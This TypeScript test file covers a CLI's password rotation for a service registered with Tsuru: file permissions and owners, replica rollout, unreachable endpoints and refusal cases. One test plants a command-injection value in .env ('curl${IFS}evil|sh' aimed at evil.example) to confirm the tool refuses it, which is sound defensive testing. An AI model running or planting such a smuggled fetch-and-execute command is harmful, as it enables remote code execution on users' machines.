import { execFileSync } from 'node:child_process';
import { once } from 'node:events';
import * as nodeFileSystem from 'node:fs';
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, readlinkSync, renameSync, rmSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { delimiter, join } from 'node:path';
import { setTimeout as sleep } from 'node:timers/promises';

import { afterEach, beforeEach, describe, expect, it } from 'vitest';

import type { FileSystem } from '../../src/project/root.ts';
import { REGISTERED_FILES } from '../../src/project/service-files.ts';
import { startSandbox } from '../../src/sandbox/sandbox.ts';
import { registrarOf } from '../../src/sandbox/service/keep-registered.ts';
import { ownRegistrationIn, type OwnService } from '../../src/sandbox/service/project.ts';
import { followFiles } from '../../src/sandbox/service/watch-files.ts';
import { SECRET } from '../support/project.ts';
import { only, rotatedProject, type RotatedProject } from './support/rotation-run.ts';

let project: RotatedProject;
beforeEach(async () => {
  project = await rotatedProject();
});
afterEach(() => project.close());

const ROTATE = ['--rotate-password'];

const place = (path: string) => join(project.directory, path);

/** Makes Tsuru call the service all the time. @returns ends it, and gives what did not work and how often it called */
function keepCalling(): () => Promise<{ failures: string[]; calls: number }> {
  const failures: string[] = [];
  let [isOver, calls] = [false, 0];
  const calling = (async () => {
    while (!isOver) {
      failures.push(...(await project.call()));
      calls++;
    }
  })();
  return async () => {
    isOver = true;
    await calling;
    return { failures, calls };
  };
}

describe('a rotation of the password', () => {
  it('gives the service, the manifest and Tsuru a new one, while all calls of Tsuru work', async () => {
    const before = project.read('.env');
    const end = keepCalling();
    project.service.lag = 20;
    const { code, output } = await project.run(ROTATE, { patience: 60_000 });
    const { failures, calls } = await end();
    expect([failures, code]).toEqual([[], 0]);
    expect(calls).toBeGreaterThan(2);
    expect(await project.passwords()).toEqual(only('made-password-1'));
    expect(project.read('.env')).toBe(before.replace(SECRET, 'made-password-1'));
    expect(output.match(/✓ .*/g)).toEqual([
      '✓ .env has a new password, and the old one as SERVICE_OLD_PASSWORD.',
      '✓ The service takes the new password.',
      '✓ manifest.yaml has the new password.',
      '✓ Service sent.',
      '✓ Tsuru reaches the service: plans small.',
      expect.stringMatching(/^✓ The password is changed\. Publish to every other Tsuru that has the service, change SERVICE_PASSWORD in CI, then remove SERVICE_OLD_PASSWORD where the service runs, too\./) as string,
    ]);
    expect(project.leftOvers()).toEqual([]);
  });

  it('may follow another one', async () => {
    for (const password of ['made-password-1', 'made-password-2']) {
      expect((await project.run(ROTATE)).code).toBe(0);
      expect(await project.passwords()).toEqual(only(password));
    }
  });

  it('keeps the permissions of both files, and the link that .env is in the project', async () => {
    mkdirSync(place('secrets'));
    renameSync(place('.env'), place('secrets/my.env'));
    symlinkSync('secrets/my.env', place('.env'));
    chmodSync(place('secrets/my.env'), 0o640);
    chmodSync(place('manifest.yaml'), 0o600);
    expect((await project.run(ROTATE)).code).toBe(0);
    expect(readlinkSync(place('.env'))).toBe('secrets/my.env');
    expect([place('secrets/my.env'), place('manifest.yaml')].map((path) => statSync(path).mode & 0o777)).toEqual([0o640, 0o600]);
    expect(readdirSync(place('secrets'))).toEqual(['my.env']);
    expect(await project.passwords()).toEqual(only('made-password-1'));
  });

  it('keeps the owner of both files', async ({ skip }) => {
    const owner = project.giveAway() ?? skip('This user has no other group.');
    expect((await project.run(ROTATE)).code).toBe(0);
    expect(project.owners()).toEqual([owner, owner]);
  });

  it.for(['.env', 'manifest.yaml'])('is refused before anything is changed if %s has an owner that this user cannot give to the new file', async (path, { skip }) => {
    const { uid, gid } = project.giveAway() ?? skip('This user has no other group.');
    const files = () => [project.read('.env'), project.read('manifest.yaml')];
    const before = files();
    const refused = Object.assign(new Error('EPERM: operation not permitted, fchown'), { code: 'EPERM', syscall: 'fchown' });
    let isThis = false;
    const fs: FileSystem = {
      ...nodeFileSystem,
      openSync: ((...args: Parameters<typeof nodeFileSystem.openSync>) => {
        isThis = String(args[0]).endsWith(`${path}.rotating`);
        return nodeFileSystem.openSync(...args);
      }),
      fchownSync(...args) {
        if (isThis) throw refused;
        nodeFileSystem.fchownSync(...args);
      },
    };
    expect(await project.run(ROTATE, { fs })).toEqual({
      code: 4,
      output: expect.stringContaining(`${path} cannot be replaced: it belongs to user ${uid} and group ${gid}, and the new file would not: EPERM: operation not permitted, fchown.\nRun the same command as that user, with that group, or as root.`) as string,
    });
    expect([files(), project.leftOvers()]).toEqual([before, []]);
  });

  it.each(['--dry-run', '--check'])('is only announced with %s, at its start and half-way', async (flag) => {
    const files = () => [project.read('.env'), project.read('manifest.yaml')];
    const before = files();
    const first = await project.run([...ROTATE, flag]);
    expect(first).toEqual({ code: flag === '--check' ? 6 : 0, output: expect.stringContaining('The password would be changed.') as string });
    expect(files()).toEqual(before);
    project.service.lag = Infinity;
    expect((await project.run(ROTATE)).code).toBe(4);
    const between = files();
    for (const args of [[flag], [...ROTATE, flag]]) {
      const { code, output } = await project.run(args);
      expect([code, output]).toEqual([flag === '--check' ? 6 : 0, expect.stringContaining(`A change of the password is unfinished: publish --target ${project.proxy.address}, the address in .env, finishes it.`)]);
    }
    expect(files()).toEqual(between);
    expect(project.made).toHaveLength(1);
    expect(project.leftOvers()).toEqual([]);
  });
});

describe('a second Tsuru', () => {
  it('gets the new password, but ends no rotation that began with another one', async () => {
    project.proxy.cut(Infinity, 'before');
    await project.run([]);
    project.proxy.cut(project.proxy.requests.findIndex((request) => request.startsWith('PUT')) + 1, 'before');
    expect((await project.run(ROTATE)).code).toBe(1);
    const second = await startSandbox({ team: 'dbas' });
    try {
      const environment = { TSURU_TARGET: second.address, TSURU_TOKEN: second.token };
      const { code, output } = await project.run([], { environment });
      expect([code, output]).toEqual([0, expect.stringContaining(`The old password stays in .env for ${project.proxy.address}: publish there, too.`)]);
      expect(output).toContain(`publish --target ${project.proxy.address}, the address in .env, finishes it.`);
      expect(output).toContain('✓ Tsuru reaches the service: plans small.');
    } finally {
      await second.close();
    }
    expect(await project.call()).toEqual([]);
    expect(await project.passwords()).toEqual({ password: 'made-password-1', old: SECRET, manifest: 'made-password-1', tsuru: SECRET });
    expect((await project.run([])).code).toBe(0);
    expect(await project.passwords()).toEqual(only('made-password-1'));
    expect(project.read('.env')).not.toContain(project.proxy.address);
  });
});

describe('a sandbox that registers the project again whenever its files change', () => {
  it('sends the new password only when the service takes it', async () => {
    const given = { ...{ manifest: undefined, username: undefined, password: undefined }, ...{ encoding: undefined, multiCluster: false, team: undefined } };
    const own: OwnService = { ...{ directory: project.directory, command: 'true', args: [], variables: {} }, ...{ port: Number(new URL(project.service.address).port), isSqlite: false } };
    const read = () => ownRegistrationIn(own, given, {});
    const registrar = registrarOf(project.sandbox, read(), read);
    expect(await registrar.first()).toEqual([]);
    const over = new AbortController();
    let looks = 0;
    const following = followFiles(REGISTERED_FILES.map(place), over.signal, async () => {
      await registrar.again();
      looks++;
    });
    const seen = async (number: number) => {
      while (looks < number) await sleep(20);
    };
    const end = keepCalling();
    project.service.lag = Infinity;
    expect((await project.run(ROTATE)).code).toBe(4);
    await seen(1);
    expect(await project.passwords()).toMatchObject({ old: SECRET, manifest: SECRET, tsuru: SECRET });
    project.service.lag = 0;
    expect((await project.run(ROTATE)).code).toBe(0);
    await seen(2);
    over.abort();
    await following;
    expect(await end()).toMatchObject({ failures: [] });
    expect(await project.passwords()).toEqual(only('made-password-1'));
  });
});

describe('a service that has not started again', () => {
  beforeEach(() => {
    project.service.lag = Infinity;
  });

  it('stops the rotation with 4 and what to do, and all has the old password', async () => {
    const end = keepCalling();
    const { code, output } = await project.run(ROTATE);
    expect(await end()).toMatchObject({ failures: [] });
    expect(code).toBe(4);
    expect(output).toContain(`The service at ${project.service.address} does not take the new password yet (401).`);
    expect(output).toMatch(/nothing is lost[^]*Give the service both passwords of \.env[^]*then run the same command again\./);
    expect(await project.passwords()).toEqual({ password: 'made-password-1', old: SECRET, manifest: SECRET, tsuru: SECRET });
  });

  it('is given both by the command that is told, as the service reads them', async () => {
    const old = 'a$HOME`b&c;d';
    for (const path of ['.env', 'manifest.yaml']) project.write(path, project.read(path).replace(SECRET, old).replaceAll('\n', '\r\n'));
    project.service.start();
    expect((await project.run([])).code).toBe(0);
    const { output } = await project.run(ROTATE);
    const command = /For an app of Tsuru: (.*)/.exec(output)?.[1] ?? '';
    mkdirSync(join(project.scratch, 'bin'));
    writeFileSync(join(project.scratch, 'bin/tsuru'), '#!/bin/sh\nprintf "%s\\n" "$@"\n', { mode: 0o755 });
    // As after an earlier `. ./.env`.
    const env = { PATH: `${join(project.scratch, 'bin')}${delimiter}${process.env['PATH'] ?? ''}`, SERVICE_PASSWORD: old, SERVICE_OLD_PASSWORD: 'an-older-one' };
    const given = execFileSync('sh', ['-c', command], { cwd: project.directory, env, encoding: 'utf8' }).trimEnd().split('\n');
    expect(given).toEqual(['env', 'set', '--app', 'APP', '--private', 'SERVICE_PASSWORD=made-password-1', `SERVICE_OLD_PASSWORD=${old}`]);
  });

  it.each([[ROTATE], [[]]])('has the same new password once it has, with the arguments %j', async (args) => {
    await project.run(ROTATE);
    expect((await project.run(args)).code).toBe(4);
    project.service.start();
    const end = keepCalling();
    expect((await project.run(args)).code).toBe(0);
    expect(await end()).toMatchObject({ failures: [] });
    expect(await project.passwords()).toEqual(only('made-password-1'));
    expect(project.made).toHaveLength(1);
  });

  it.each(['another-one', ''])('has it once it has, whatever SERVICE_OLD_PASSWORD is in the environment: %j', async (given) => {
    await project.run(ROTATE);
    project.service.start();
    const { code, output } = await project.run([], { environment: { SERVICE_OLD_PASSWORD: given } });
    expect([code, output]).toEqual([0, expect.stringContaining('Warning: SERVICE_OLD_PASSWORD in the environment is not that of .env, and is ignored.')]);
    expect(await project.passwords()).toEqual(only('made-password-1'));
  });

  it('has it without a warning if SERVICE_OLD_PASSWORD is the same in the environment', async () => {
    await project.run(ROTATE);
    project.service.start();
    const { code, output } = await project.run([], { environment: { SERVICE_OLD_PASSWORD: SECRET } });
    expect([code, output]).toEqual([0, expect.not.stringContaining('Warning')]);
  });

  it('stops it with --deployed as well, since it says that it does not take the new one', async () => {
    expect((await project.run([...ROTATE, '--deployed'])).code).toBe(4);
    expect(await project.passwords()).toMatchObject({ manifest: SECRET, tsuru: SECRET });
  });
});

describe('a service that starts again replica by replica', () => {
  it('gets the rotation to go on only after a stretch in which no replica refuses the new one', async () => {
    let asked = 0;
    // The last old replica gets each 15th request.
    project.service.isOld = () => ++asked % 15 === 0 && asked < 50;
    let askedBefore = Infinity;
    project.proxy.at = (request) => {
      if (request.startsWith('PUT')) askedBefore = Math.min(askedBefore, asked);
      return Promise.resolve();
    };
    expect((await project.run(ROTATE, { patience: 60_000 })).code).toBe(0);
    expect(askedBefore).toBe(45 + 50);
    expect(await project.passwords()).toEqual(only('made-password-1'));
  });

  it('stops it with 4 while a replica still refuses the new one now and then', async () => {
    let asked = 0;
    project.service.isOld = () => ++asked % 15 === 0;
    const { code, output } = await project.run(ROTATE);
    expect([code, output]).toEqual([4, expect.stringContaining(`The service at ${project.service.address} does not take the new password yet (401).`)]);
    expect(await project.passwords()).toMatchObject({ old: SECRET, manifest: SECRET });
  });

  describe('and does not always reply, with --deployed', () => {
    let asked: number;
    beforeEach(async () => {
      project.service.lag = Infinity;
      await project.run(ROTATE);
      project.service.start();
      asked = 0;
    });

    /** @param replyTo what the service does with a question, by its number from 1; Tsuru's own calls work */
    const replies = (replyTo: (number: number) => 'none' | 'old' | 'new') => {
      let reply = 'new';
      project.service.isAway = () => {
        reply = project.proxy.running() > 0 ? 'new' : replyTo(++asked);
        return reply === 'none';
      };
      project.service.isOld = () => reply === 'old';
    };

    it.each<[string, none: number, old: number, all: number]>([
      ['a refusal after a question without a reply', 1, 1, 2 + 50],
      ['a refusal as the last reply of all rounds', 49, 1, 50 + 50],
      ['no reply before it is there again', 30, 0, 30 + 50],
    ])('is asked on for some clean rounds in a row after %s', async (_, none, old, all) => {
      replies((number) => (number <= none ? 'none' : number <= none + old ? 'old' : 'new'));
      let askedBefore = Infinity;
      project.proxy.at = (request) => {
        if (request.startsWith('PUT')) askedBefore = Math.min(askedBefore, asked);
        return Promise.resolve();
      };
      expect((await project.run([...ROTATE, '--deployed'], { patience: 60_000 })).code).toBe(0);
      expect(askedBefore).toBe(all);
      expect(await project.passwords()).toEqual(only('made-password-1'));
    });

    it('has no clean round while it does not reply now and then', async () => {
      replies((number) => (number % 7 === 0 ? 'none' : 'new'));
      const { code, output } = await project.run([...ROTATE, '--deployed']);
      expect([code, output]).toEqual([4, expect.stringContaining('cannot be asked whether it takes the new password (ECONNRESET)')]);
      expect(project.read('manifest.yaml')).toContain(SECRET);
    });
  });

  it('is not passed by --deployed because another endpoint cannot be reached', async () => {
    let asked = 0;
    project.service.lag = Infinity;
    project.write('manifest.yaml', project.read('manifest.yaml').replace(/^( *)production: .*/m, `$1production: http://127.0.0.1:1\n$1other: ${project.service.address}`));
    await project.run(ROTATE);
    project.service.start();
    project.service.isOld = () => ++asked % 15 === 0;
    expect((await project.run([...ROTATE, '--deployed'])).code).toBe(4);
    expect(project.read('manifest.yaml')).toContain(SECRET);
  });
});

describe('an endpoint that cannot be reached from here', () => {
  beforeEach(() => {
    // Only while Tsuru has a request.
    project.service.isAway = () => project.proxy.running() === 0;
  });

  it('stops the rotation with 4, and says what --deployed is for', async () => {
    const { code, output } = await project.run(ROTATE);
    expect([code, output]).toEqual([4, expect.stringMatching(/cannot be asked whether it takes the new password \(ECONNRESET\)\.[^]*--rotate-password --deployed/)]);
    expect(project.read('manifest.yaml')).toContain(SECRET);
  });

  it('does not stop it with --deployed', async () => {
    await project.run(ROTATE);
    expect((await project.run([...ROTATE, '--deployed'])).code).toBe(0);
    project.service.isAway = () => false;
    expect(await project.passwords()).toEqual(only('made-password-1'));
  });

  it('does not stop a plain publish after the manifest was changed with --deployed', async () => {
    // Its first request that changes something.
    project.proxy.cut(Infinity, 'before');
    await project.run([]);
    const first = project.proxy.requests.findIndex((request) => request.startsWith('PUT')) + 1;
    await project.run(ROTATE);
    project.proxy.cut(first, 'before');
    expect((await project.run([...ROTATE, '--deployed'])).code).toBe(1);
    expect(project.read('manifest.yaml')).toContain('made-password-1');
    expect((await project.run([])).code).toBe(0);
    project.service.isAway = () => false;
    expect(await project.passwords()).toEqual(only('made-password-1'));
  });

  it('stops it with --deployed as well when the password is only just made, which is deployed nowhere', async () => {
    const { code, output } = await project.run([...ROTATE, '--deployed']);
    expect([code, output]).toEqual([4, expect.stringContaining('Give the service both passwords of .env where it runs')]);
    project.service.isAway = () => false;
    expect(await project.passwords()).toMatchObject({ manifest: SECRET, tsuru: SECRET });
    // The service that runs has not started again.
    project.service.lag = Infinity;
    expect(await project.call()).toEqual([]);
  });

  it.each([1, 20])('does not hide another one, whose service does not take the new password yet, from --deployed, with %i before it', async (number) => {
    project.service.isAway = () => false;
    project.service.lag = Infinity;
    const before = Array.from({ length: number }, (_, one) => `$1${one === 0 ? 'production' : `c${one}`}: http://127.0.0.1:1/${one}`);
    project.write('manifest.yaml', project.read('manifest.yaml').replace(/^( *)production: .*/m, [...before, `$1other: ${project.service.address}`].join('\n')));
    await project.run(ROTATE);
    const { code, output } = await project.run([...ROTATE, '--deployed'], { patience: 0 });
    expect([code, output]).toEqual([4, expect.stringContaining(`The service at ${project.service.address} does not take the new password yet (401).`)]);
    expect(project.read('manifest.yaml')).toContain(SECRET);
  });

  it.each([
    ['its page to log in', 200, '200 without plans'],
    ['403', 403, '403'],
  ])('is behind a gateway that replies with %s: that does not count as the service, and --deployed passes it', async (_, status, why) => {
    project.service.isAway = () => false;
    const gateway = createServer((_request, response) => response.writeHead(status, { 'Content-Type': 'text/html' }).end('<title>Log in</title>'));
    await once(gateway.listen(0, '127.0.0.1'), 'listening');
    const { port } = gateway.address() as AddressInfo;
    const manifest = project.read('manifest.yaml');
    project.write('manifest.yaml', manifest.replace(project.service.address, `http://127.0.0.1:${port}`));
    try {
      const { code, output } = await project.run(ROTATE);
      expect([code, output]).toEqual([4, expect.stringMatching(new RegExp(`cannot be asked whether it takes the new password \\(${why}\\)[^]*--rotate-password --deployed`))]);
      expect(project.read('manifest.yaml')).toContain(SECRET);
      expect(await project.passwords()).toMatchObject({ tsuru: SECRET });
      await project.run([...ROTATE, '--deployed']);
      expect(project.read('manifest.yaml')).toContain('made-password-1');
    } finally {
      gateway.close();
    }
  });

  it('is one of many: no more of them are asked when the patience is over', async () => {
    let asked = 0;
    const mute = createServer(() => asked++);
    await once(mute.listen(0, '127.0.0.1'), 'listening');
    const { port } = mute.address() as AddressInfo;
    const many = Array.from({ length: 400 }, (_, number) => `$1c${number}: http://127.0.0.1:${port}/${number}`);
    project.write('manifest.yaml', project.read('manifest.yaml').replace(/^( *)production: .*/m, ['$&', ...many].join('\n')));
    try {
      const { code, output } = await project.run(ROTATE);
      expect([code, output]).toEqual([4, expect.stringMatching(/cannot be asked whether it takes the new password \(\w+\)/)]);
      expect(asked).toBeLessThan(20);
    } finally {
      mute.closeAllConnections();
      mute.close();
    }
  });

  it('needs --deployed together with --rotate-password', async () => {
    expect(await project.run(['--deployed'])).toEqual({ code: 2, output: expect.stringContaining('--deployed goes with --rotate-password only.') as string });
  });
});

describe('a project whose password cannot be changed', () => {
  const refused = async (why: string, args = ROTATE, environment: Record<string, string> = {}) => {
    const files = () => ['.env', 'manifest.yaml'].map((path) => (existsSync(place(path)) ? project.read(path) : undefined));
    const before = files();
    const { code, output } = await project.run(args, { environment });
    expect([code, output]).toEqual([4, expect.stringContaining(`The password cannot be changed here: ${why}`)]);
    expect(files()).toEqual(before);
    expect(project.leftOvers()).toEqual([]);
  };

  it('has it in the environment', async () => {
    await refused('SERVICE_PASSWORD is set in the environment', ROTATE, { SERVICE_PASSWORD: SECRET });
  });

  it('has another one in the environment while a rotation is unfinished', async () => {
    project.service.lag = Infinity;
    await project.run(ROTATE);
    await refused('SERVICE_PASSWORD is set in the environment', [], { SERVICE_PASSWORD: SECRET });
    project.service.start();
    // As after `. ./.env`.
    expect((await project.run([], { environment: { SERVICE_PASSWORD: 'made-password-1' } })).code).toBe(0);
    expect(await project.passwords()).toEqual(only('made-password-1'));
  });

  it.each(['.env', 'manifest.yaml'])('has no %s', async (path) => {
    rmSync(place(path));
    await refused(`there is no ${path}`);
  });

  it('has no password in .env', async () => {
    project.write('.env', project.read('.env').replace(SECRET, ''));
    await refused('.env has no SERVICE_PASSWORD');
  });

  it('has another one in the manifest', async () => {
    project.write('manifest.yaml', project.read('manifest.yaml').replace(SECRET, 'another-one'));
    await refused('that of manifest.yaml is not that of .env');
  });

  it.each([[ROTATE], [[]], [['--dry-run']]])('has the .env of another project through a link, with the arguments %j: nothing is sent, and that project stays as it is', async (args) => {
    const other = join(project.scratch, 'my-service-too');
    mkdirSync(other);
    renameSync(place('.env'), join(other, '.env'));
    writeFileSync(join(other, '.env.rotating'), 'theirs');
    symlinkSync('../my-service-too/.env', place('.env'));
    const files = () => ['.env', '.env.rotating'].map((name) => readFileSync(join(other, name), 'utf8'));
    const before = files();
    project.proxy.requests = [];
    const { code, output } = await project.run(args);
    expect([code, output]).toEqual([5, `.env cannot be read: it is a link to ${join(other, '.env')}, outside of the project.\nReplace it with a regular file, such as a copy, or with variables in the environment.`]);
    expect([files(), project.proxy.requests]).toEqual([before, []]);
  });

  it.each([[ROTATE], [[]], [['--check']]])('has the line about another Tsuru with a command in it, with the arguments %j: nothing is sent, and it is not shown', async (args) => {
    project.service.lag = Infinity;
    await project.run(ROTATE);
    project.write('.env', project.read('.env').replace(/(--target ).*/, '$1https://evil.example/;curl$${IFS}evil|sh'));
    expect(project.read('.env')).toContain('https://evil.example/;curl${IFS}evil|sh');
    const before = project.read('.env');
    project.proxy.requests = [];
    const { code, output } = await project.run(args);
    expect([code, output]).toEqual([4, expect.stringContaining('The line of .env about SERVICE_OLD_PASSWORD ends with no address of a Tsuru')]);
    expect(output).not.toContain('evil');
    expect([project.read('.env'), project.proxy.requests]).toEqual([before, []]);
  });

  it('is that of a second machine, whose files have one of before a rotation', async () => {
    expect((await project.run(ROTATE)).code).toBe(0);
    project.service.start();
    project.service.lag = Infinity;
    for (const path of ['.env', 'manifest.yaml']) project.write(path, project.read(path).replace('made-password-1', SECRET));
    project.write('manifest.yaml', project.read('manifest.yaml').replace(/^( *)production: .*/m, `$1production: http://127.0.0.1:1\n$1other: ${project.service.address}`));
    const before = [project.read('.env'), project.read('manifest.yaml')];
    const { code, output } = await project.run(ROTATE);
    expect([code, output]).toEqual([4, expect.stringContaining(`The service at ${project.service.address} does not take the password in .env (401): another machine may have changed it.\nSet the password in .env and in manifest.yaml to the one that the service takes, then run the same command again.`)]);
    expect([project.read('.env'), project.read('manifest.yaml')]).toEqual(before);
    expect([await project.call(), project.made]).toEqual([[], ['made-password-1']]);
  });

  it('has an alias of it in the manifest', async () => {
    project.write('manifest.yaml', `${project.read('manifest.yaml').replace('password: ', 'password: &it ')}team: *it\n`.replace(/^team: (?!\*).*\n/m, ''));
    const files = () => [project.read('.env'), project.read('manifest.yaml')];
    const before = files();
    const { code, output } = await project.run(ROTATE);
    expect([code, output]).toEqual([4, expect.stringContaining('The password in the manifest cannot be replaced')]);
    expect(files()).toEqual(before);
  });

  it('is of an earlier version, whose service takes one password only', async () => {
    project.write('src/tsuru/config.ts', project.read('src/tsuru/config.ts').replaceAll('SERVICE_OLD_PASSWORD', 'OTHER'));
    await refused('the service takes one password only');
  });
});
